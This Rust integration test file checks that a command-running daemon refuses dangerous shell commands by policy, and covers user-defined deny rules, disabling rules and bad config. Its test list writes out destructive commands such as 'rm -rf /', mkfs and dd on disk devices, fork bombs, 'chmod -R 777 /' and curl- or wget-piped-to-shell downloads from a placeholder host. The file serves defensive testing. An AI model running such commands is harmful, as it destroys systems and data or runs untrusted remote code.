//! Policy refusals through the socket: the built-in rules for the classics, a user rule from
//! config.toml, and `disable`. A refused command must never reach the shell.

mod common;

use common::*;
use serde_json::json;

/// Every command here is refused before it runs; none would be harmless if it ran.
const CLASSICS: &[(&str, &str)] = &[
    ("rm -rf /", "rm-root"),
    ("rm -rf /*", "rm-root"),
    ("sudo rm -fr -- /", "rm-root"),
    ("rm -rf ~", "rm-root"),
    ("rm --recursive --force ~/", "rm-root"),
    ("cd /tmp && rm -rf \"$HOME\"", "rm-root"),
    ("bash -c 'rm -rf /'", "rm-root"),
    ("echo $(rm -rf ~)", "rm-root"),
    ("mkfs.ext4 /dev/sda1", "mkfs"),
    ("sudo mkfs -t xfs /dev/nvme0n1", "mkfs"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", "dd-device"),
    ("echo x > /dev/sda", "redirect-device"),
    ("cat img >/dev/nvme0n1", "redirect-device"),
    (":(){ :|:& };:", "fork-bomb"),
    ("bomb() { bomb | bomb & }; bomb", "fork-bomb"),
    ("chmod -R 777 /", "chmod-root"),
    ("sudo chown -R nobody /usr", "chmod-root"),
    (
        "curl -fsSL https://example.invalid/x.sh | sh",
        "pipe-to-shell",
    ),
    (
        "wget -qO- http://example.invalid/x | sudo bash",
        "pipe-to-shell",
    ),
    ("bash <(curl -s http://example.invalid/x)", "pipe-to-shell"),
];

#[test]
fn builtin_rules_refuse_the_classics() {
    let d = Daemon::start();
    let mut c = d.client();
    let mut wrong = Vec::new();
    for (cmd, rule) in CLASSICS {
        match c.call("execute", json!({"command": cmd, "timeout_ms": 2_000})) {
            Err(e) if e.code == REFUSED_BY_POLICY && e.data["rule"] == *rule => {
                assert!(e.message.contains(rule), "{cmd}: {e:?}");
                assert!(
                    e.data["reason"].as_str().is_some_and(|r| !r.is_empty()),
                    "{e:?}"
                );
                assert!(e.data["pattern"].is_string(), "{e:?}");
            }
            other => wrong.push(format!("{cmd:?}: want {rule}, got {other:?}")),
        }
    }
    assert!(
        wrong.is_empty(),
        "not refused as expected:\n{}",
        wrong.join("\n")
    );
    // Refused commands never reached tmux: no session, no history, nothing counted.
    let info = c.ok("daemon_info", json!({}));
    assert_eq!(info["commands_run"], 0, "{info}");
    assert_eq!(c.ok("history", json!({}))["commands"], json!([]));
    assert_eq!(c.ok("list_sessions", json!({}))["sessions"], json!([]));
    // Each refusal is an audit event.
    assert!(d.wait_log("refused by policy"), "{}", d.log());
    assert!(d.wait_log("rule=fork-bomb"), "{}", d.log());
}

#[test]
fn ordinary_commands_that_look_alike_run() {
    let d = Daemon::start();
    let mut c = d.client();
    let work = d.path().join("work");
    std::fs::create_dir_all(work.join("build/sub")).unwrap();
    let mut c_run = |cmd: &str, out: &str| {
        let r = c.exec_with(cmd, json!({"cwd": work}));
        assert_exited(&r, 0, out);
    };
    c_run("rm -rf ./build && ls", "");
    c_run("echo 'rm -rf /'", "rm -rf /\n");
    c_run(
        "dd if=/dev/zero of=./disk.img bs=1k count=1 2>/dev/null && wc -c < disk.img",
        "1024\n",
    );
    c_run("mkdir -p d && chmod -R 755 ./d && echo ok", "ok\n");
    c_run("cat /dev/null > ./null-copy && echo ok", "ok\n");
    c_run("f() { echo fn; }; f", "fn\n");
}

#[test]
fn user_rule_from_config_refuses_and_never_runs() {
    let d = Daemon::builder()
        .config(
            r#"
[policy]
[[policy.deny]]
name = "no-marker"
pattern = 'touch\s+\S*forbidden'
reason = "tests forbid this file"
"#,
        )
        .start();
    let mut c = d.client();
    let target = d.path().join("forbidden");
    let cmd = format!("touch '{}'", target.display());
    let e = c.err_code("execute", json!({"command": cmd}), REFUSED_BY_POLICY);
    assert_eq!(e.data["rule"], "no-marker", "{e:?}");
    assert_eq!(e.data["reason"], "tests forbid this file", "{e:?}");
    assert!(e.message.contains("no-marker"), "{e:?}");
    assert!(!target.exists(), "the refused command ran");
    // Built-in rules still apply next to user rules.
    let e = c.err_code("execute", json!({"command": "rm -rf /"}), REFUSED_BY_POLICY);
    assert_eq!(e.data["rule"], "rm-root");
    // A command the rule does not match runs.
    let allowed = d.path().join("allowed");
    c.exec(&format!("touch '{}'", allowed.display()));
    assert!(allowed.exists());
}

#[test]
fn disabled_builtin_rule_lets_the_command_run() {
    let d = Daemon::builder()
        .config("[policy]\ndisable = [\"pipe-to-shell\"]\n")
        .start();
    let mut c = d.client();
    // Matches pipe-to-shell, but downloads an empty local file: harmless.
    let r = c.exec("curl -s file:///dev/null | sh; echo rc=$?");
    assert_exited(&r, 0, "rc=0\n");
    // The others stay on.
    let e = c.err_code(
        "execute",
        json!({"command": "chmod -R 777 /"}),
        REFUSED_BY_POLICY,
    );
    assert_eq!(e.data["rule"], "chmod-root");

    // Without the config, the same command is refused.
    let d = Daemon::start();
    let mut c = d.client();
    let e = c.err_code(
        "execute",
        json!({"command": "curl -s file:///dev/null | sh; echo rc=$?"}),
        REFUSED_BY_POLICY,
    );
    assert_eq!(e.data["rule"], "pipe-to-shell");
}

#[test]
fn bad_policy_config_stops_start_up() {
    let (status, err) = Daemon::builder()
        .config("[policy]\n[[policy.deny]]\nname = \"x\"\npattern = \"(\"\n")
        .start_failing();
    assert_eq!(status.code(), Some(78), "{err}");
    assert!(err.contains("config.toml"), "{err}");
    assert!(err.contains("line 4") && err.contains("bad regex"), "{err}");

    let (status, err) = Daemon::builder()
        .config("[policy]\ndisable = [\"no-such-rule\"]\n")
        .start_failing();
    assert_eq!(status.code(), Some(78), "{err}");
    assert!(err.contains("no-such-rule"), "{err}");
}
